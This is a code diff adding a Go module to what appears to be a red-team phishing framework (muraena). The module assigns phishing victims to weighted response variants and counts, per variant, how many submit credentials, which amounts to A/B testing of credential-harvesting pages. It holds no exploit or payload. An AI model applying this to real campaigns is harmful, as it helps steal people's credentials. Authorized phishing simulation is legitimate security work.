@@ -0,0 +1,111 @@
+package tracking
+
+import (
+	"hash/fnv"
+	"sync"
+
+	"github.com/muraenateam/muraena/session"
+)
+
+// variants assigns the victims to the response variants, and counts the victims of each variant submitting
+// credentials, to compare their results
+type variants struct {
+	config []session.ResponseVariant
+
+	mu        sync.Mutex
+	victims   map[string]int
+	submitted map[string]int
+	// submitters are the victims who submitted credentials, counted once
+	submitters map[string]bool
+}
+
+func newVariants(s *session.Session) *variants {
+	if len(s.Config.Variants) == 0 {
+		return nil
+	}
+
+	v := &variants{
+		config:     s.Config.Variants,
+		victims:    make(map[string]int),
+		submitted:  make(map[string]int),
+		submitters: make(map[string]bool),
+	}
+	session.RegisterStats("variants", v.Stats)
+	return v
+}
+
+// assign returns the variant of the victim: the first one matching a tag of the victim, or the one of its share
+// of the victims, the bucket of a victim being a hash of its identifier
+func (v *variants) assign(id string, tags []string) string {
+	for _, variant := range v.config {
+		for _, t := range variant.Tags {
+			for _, tag := range tags {
+				if t == tag {
+					return variant.Name
+				}
+			}
+		}
+	}
+
+	h := fnv.New32a()
+	h.Write([]byte(id))
+	bucket := int(h.Sum32() % 100)
+
+	for _, variant := range v.config {
+		if bucket < variant.Weight {
+			return variant.Name
+		}
+		bucket -= variant.Weight
+	}
+
+	return session.DefaultVariant
+}
+
+// record counts a new victim of the variant, or a victim of the variant submitting credentials
+func (v *variants) record(variant, id string, submission bool) {
+	v.mu.Lock()
+	defer v.mu.Unlock()
+
+	if !submission {
+		v.victims[variant]++
+		return
+	}
+
+	if !v.submitters[id] {
+		v.submitters[id] = true
+		v.submitted[variant]++
+	}
+}
+
+// Stats returns the number of victims of each variant, and of the ones who submitted credentials
+func (v *variants) Stats() map[string]interface{} {
+	v.mu.Lock()
+	defer v.mu.Unlock()
+
+	stats := make(map[string]interface{})
+	for _, name := range append([]string{session.DefaultVariant}, v.names()...) {
+		stats[name] = map[string]int{"victims": v.victims[name], "submitted": v.submitted[name]}
+	}
+	return stats
+}
+
+func (v *variants) names() []string {
+	names := make([]string, 0, len(v.config))
+	for _, variant := range v.config {
+		names = append(names, variant.Name)
+	}
+	return names
+}
+
+// Variant returns the response variant of the victim, empty if no variant is defined
+func (module *Tracker) Variant(id string) string {
+	if module == nil || module.variants == nil || id == "" {
+		return ""
+	}
+
+	var tags []string
+	if e := module.Enrichment(id); e != nil {
+		tags = e.Tags
+	}
+	return module.variants.assign(id, tags)
+}